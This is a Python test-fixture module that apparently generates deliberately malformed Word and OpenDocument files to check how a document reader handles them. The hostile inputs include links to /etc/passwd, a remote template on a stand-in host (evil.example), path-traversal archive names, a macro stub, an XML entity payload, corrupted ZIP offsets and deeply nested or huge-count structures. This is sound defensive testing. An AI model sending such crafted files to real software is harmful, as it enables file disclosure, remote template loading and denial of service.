"""Hostile Word and OpenDocument files: what a package, its parts and its paragraphs can be made to do."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

from read.docx_maker import character, code, control, docx, paragraph, part, run, simple
from read.odt_maker import NUMBERED, content, odt

from hostile.hostile_kinds import EITHER, LIST, READ, REFUSED, N

GOOD = tuple(paragraph(run(line)) for line in LIST.splitlines())
_ODT = "".join(f"<text:p>{line.replace('&', '&amp;')}</text:p>" for line in LIST.splitlines())
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/relationships"


def _word(*more, parts=()):
    return docx(*GOOD, *more, parts=parts)


def _relations(*links):
    inner = "".join(
        f'<Relationship Id="r{i}" Type="{_R}/{k}" Target="{t}" TargetMode="{m}"/>' for i, (k, t, m) in enumerate(links)
    )
    return "word/_rels/document.xml.rels", f'<Relationships xmlns="{_TYPES}">{inner}</Relationships>'


def _renamed(data, old, new):
    """Return the archive with a member's name changed to one as long, in both places."""
    assert len(old) == len(new)
    return data.replace(old, new)


def _twice(name, *texts):
    stream = io.BytesIO(_word())
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(stream, "a") as archive:
        for text in texts:
            archive.writestr(name, text)
    return stream.getvalue()


def _with_wrong_sum(data):
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    return data[: at + 16] + struct.pack("<I", 0xDEADBEEF) + data[at + 20 :]


def _with_place(data, place):
    """Return the archive with its document said to begin at `place`."""
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    return data[: at + 42] + struct.pack("<I", place) + data[at + 46 :]


def _nested(opening, closing, inside, depth):
    return opening * depth + inside + closing * depth


_CYCLE = "".join(
    f'<w:style w:type="paragraph" w:styleId="s{i}"><w:basedOn w:val="s{1 - i}"/></w:style>' for i in (0, 1)
)
_LIST_RING = (
    '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="A"/></w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
)
_LEVEL = '<w:numPr><w:ilvl w:val="{}"/><w:numId w:val="{}"/></w:numPr>'
_SELF_NOTE = '<w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>'
_BOX = "<w:r><w:pict><w:txbxContent><w:p>"
_BOX_END = "</w:p></w:txbxContent></w:pict></w:r>"
_TABLE = ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")

WORD = (
    (
        "word-relations-outside.docx",
        _word(
            parts=(
                _relations(
                    ("hyperlink", "file:///etc/passwd", "External"), ("image", "http://127.0.0.1/x", "External")
                ),
            )
        ),
        READ,
    ),
    (
        "word-template.docx",
        _word(parts=(_relations(("attachedTemplate", "\\\\evil.example\\t.dotm", "External")),)),
        READ,
    ),
    (
        "word-chunk.docx",
        _word(
            '<w:altChunk r:id="r0"/>',
            parts=(_relations(("aFChunk", "x.html", "Internal")), ("word/x.html", "<script>")),
        ),
        READ,
    ),
    ("word-part-upwards.docx", _word(parts=(_relations(("footnotes", "../../../etc/passwd", "Internal")),)), READ),
    ("word-macro.docx", _word(parts=(("word/vbaProject.bin", "\xd0\xcf\x11\xe0"),)), READ),
    (
        "word-names-upwards.docx",
        _word(parts=(("../../outside.xml", "<x/>"), ("/etc/passwd", "x"), ("C:\\x", "x"))),
        READ,
    ),
    ("word-member-twice.docx", _twice("word/footnotes.xml", part("footnotes", ""), part("footnotes", "<")), EITHER),
    ("word-wrong-sum.docx", _with_wrong_sum(_word()), EITHER),
    ("word-place-before-the-file.docx", _with_place(_word(), 0xA5000000), REFUSED),
    ("word-place-behind-the-file.docx", _with_place(_word(), 0x7FFFFFFF), REFUSED),
    ("word-comment.docx", _word()[:-2] + b"\xff\xff" + b"x" * 65_535, EITHER),
    ("word-behind.docx", b"MZ" + b"\0" * 512 + _word(), EITHER),
    ("word-tail.docx", _word() + b"PK\x03\x04" * 1_000, EITHER),
    ("word-cut-directory.docx", _word()[:-30], REFUSED),
    ("word-no-body.docx", _renamed(_word(), b"word/document.xml", b"word/dokument.xml"), REFUSED),
    (
        "word-utf16.docx",
        docx(*GOOD, parts=(("word/styles.xml", part("styles", "").replace("UTF-8", "UTF-16")),)),
        EITHER,
    ),
    (
        "word-style-ring.docx",
        _word(
            paragraph("x", properties='<w:pStyle w:val="s0"/>'), parts=(("word/styles.xml", part("styles", _CYCLE)),)
        ),
        READ,
    ),
    (
        "word-list-ring.docx",
        _word(
            paragraph("x", properties=_LEVEL.format(0, 1)),
            parts=(("word/numbering.xml", part("numbering", _LIST_RING)),),
        ),
        READ,
    ),
    (
        "word-levels.docx",
        _word(*(paragraph("x", properties=_LEVEL.format(n, "9" * 300)) for n in ("-5", "999999999999", "x", ""))),
        READ,
    ),
    (
        "word-note-of-itself.docx",
        _word(
            "<w:p><w:r><w:footnoteReference w:id='2'/></w:r></w:p>",
            parts=(("word/footnotes.xml", part("footnotes", _SELF_NOTE)),),
        ),
        READ,
    ),
    ("word-notes-missing.docx", _word("<w:p>" + "<w:r><w:footnoteReference w:id='7'/></w:r>" * N + "</w:p>"), READ),
    ("word-note-ids.docx", _word(parts=(("word/footnotes.xml", part("footnotes", _SELF_NOTE * N)),)), READ),
    ("word-fields-open.docx", _word(f"<w:p>{character('begin') * N}</w:p>"), READ),
    ("word-fields-closed.docx", _word(f"<w:p>{character('end') * N}</w:p>"), READ),
    (
        "word-fields-nested.docx",
        _word(f"<w:p>{(character('begin') + code(' ADDIN X ')) * 900}{character('end') * 900}</w:p>"),
        READ,
    ),
    (
        "word-zotero-broken.docx",
        _word(paragraph(simple(' ADDIN ZOTERO_ITEM CSL_CITATION {"citationItems":[{"itemData":', "(X)"))),
        READ,
    ),
    (
        "word-zotero-deep.docx",
        _word(paragraph(simple(" ADDIN ZOTERO_ITEM CSL_CITATION " + "[" * N + "]" * N, "(X)"))),
        READ,
    ),
    (
        "word-zotero-kinds.docx",
        _word(
            paragraph(
                simple(' ADDIN ZOTERO_ITEM CSL_CITATION {"citationItems":[null,5,{"itemData":[]},{"id":{}}]}', "(X)")
            )
        ),
        READ,
    ),
    ("word-mendeley-broken.docx", _word(paragraph(control("MENDELEY_CITATION_v3_" + "A" * 999, run("(X)")))), READ),
    (
        "word-endnote-laughs.docx",
        _word(paragraph(simple(' ADDIN EN.CITE <!DOCTYPE a [<!ENTITY b "c">]><EndNote>&b;</EndNote>', "(X)"))),
        READ,
    ),
    (
        "word-controls-deep.docx",
        _word(_nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", paragraph("x"), 60)),
        READ,
    ),
    (
        "word-controls-too-deep.docx",
        _word(_nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", paragraph("x"), 900)),
        EITHER,
    ),
    ("word-tables-deep.docx", _word(_nested(*_TABLE, paragraph("x"), 60)), READ),
    ("word-tables-too-deep.docx", _word(_nested(*_TABLE, paragraph("x"), N)), EITHER),
    ("word-boxes-deep.docx", _word(f"<w:p>{_nested(_BOX, _BOX_END, run('x'), 30)}</w:p>"), READ),
    ("word-runs.docx", _word(paragraph(*(run("a") for _ in range(N)))), READ),
    ("word-changes.docx", _word("<w:p>" + "<w:ins><w:del>" * 90 + run("x") + "</w:del></w:ins>" * 90 + "</w:p>"), READ),
    ("word-tabs.docx", _word("<w:p><w:r>" + "<w:tab/><w:br/><w:cr/><w:noBreakHyphen/>" * N + "</w:r></w:p>"), READ),
    (
        "word-symbols.docx",
        _word('<w:p><w:r><w:sym w:font="x" w:char="ZZZZ"/><w:sym w:char="FFFFFFFFFF"/><w:sym/></w:r></w:p>'),
        READ,
    ),
    ("word-comments.docx", _word(parts=(("word/comments.xml", part("comments", '<w:comment w:id="x"/>' * N)),)), READ),
    ("word-characters.docx", _word(paragraph(run("a\u0085b\u2028c\u202ed\ufffde\U0010fffd"))), READ),
)

_SPACES = '<text:p>x<text:s text:c="{}"/>y</text:p>'
_CHANGED = '<text:changed-region text:id="a"><text:deletion/></text:changed-region>'
_CHANGES = f"<text:tracked-changes>{_CHANGED}</text:tracked-changes>"
_MANY = '"999999999"'
_CELL = f"<table:table-cell table:number-columns-repeated={_MANY}><text:p>x</text:p></table:table-cell>"
_TABLES = f"<table:table><table:table-row table:number-rows-repeated={_MANY}>{_CELL}</table:table-row></table:table>"
OPEN = (
    ("odt-good.odt", odt(_ODT), READ),
    *((f"odt-spaces-{n[:4]}.odt", odt(_ODT + _SPACES.format(n)), READ) for n in ("1000000000", "-5", "x", "9" * 5_000)),
    (
        "odt-lists-deep.odt",
        odt(
            _ODT + _nested("<text:list><text:list-item>", "</text:list-item></text:list>", "<text:p>x</text:p>", 60),
            NUMBERED,
        ),
        READ,
    ),
    (
        "odt-lists-too-deep.odt",
        odt(_ODT + _nested("<text:list><text:list-item>", "</text:list-item></text:list>", "<text:p>x</text:p>", N)),
        EITHER,
    ),
    (
        "odt-start.odt",
        odt(
            _ODT
            + '<text:list text:style-name="L1"><text:list-item text:start-value="'
            + "9" * 400
            + '"><text:p>x</text:p></text:list-item></text:list>',
            NUMBERED,
        ),
        READ,
    ),
    ("odt-changes.odt", odt(_CHANGES + _ODT + '<text:change-start text:change-id="b"/>' * N), READ),
    ("odt-change-open.odt", odt(_CHANGES + '<text:p><text:change-start text:change-id="a"/>x</text:p>' + _ODT), READ),
    (
        "odt-repeated.odt",
        odt(_ODT + _TABLES),
        READ,
    ),
    ("odt-links.odt", odt(_ODT + '<text:p><text:a xlink:href="file:///etc/passwd">x</text:a></text:p>'), READ),
    ("odt-sections.odt", odt(_nested("<text:section>", "</text:section>", _ODT, 90)), READ),
    ("odt-entity.odt", odt("&x;" + _ODT), REFUSED),
    (
        "odt-encrypted.odt",
        odt(_ODT, manifest='<manifest:manifest xmlns:manifest="m"><manifest:encryption-data/></manifest:manifest>'),
        EITHER,
    ),
    ("odt-no-text.odt", odt("").replace(b"content.xml", b"kontent.xml"), REFUSED),
    ("odt-flat.odt", content(_ODT), EITHER),
    (
        "odt-notes.odt",
        odt(
            _ODT
            + "<text:p>"
            + "<text:note><text:note-body><text:p>x" * 60
            + "</text:p></text:note-body></text:note>" * 60
            + "</text:p>"
        ),
        READ,
    ),
)
